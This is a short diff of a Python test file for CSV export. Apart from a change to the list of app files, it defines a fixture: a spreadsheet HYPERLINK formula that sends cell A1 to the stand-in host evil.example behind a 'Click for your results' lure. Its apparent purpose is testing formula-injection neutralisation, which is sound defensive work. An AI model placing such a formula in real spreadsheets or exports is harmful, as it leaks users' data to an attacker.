@@ -12,7 +12,7 @@ from core.runs.csv_export import csv_bytes, neutralise_cell
 from core.settings import PROJECT_ROOT
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your results")'
-APP_FILES = [PROJECT_ROOT / "app.py", PROJECT_ROOT / "ui.py"] + sorted(
+APP_FILES = [PROJECT_ROOT / "app.py", *sorted((PROJECT_ROOT / "ui").glob("*.py"))] + sorted(
     (PROJECT_ROOT / "app_pages").glob("*.py")
 )
 
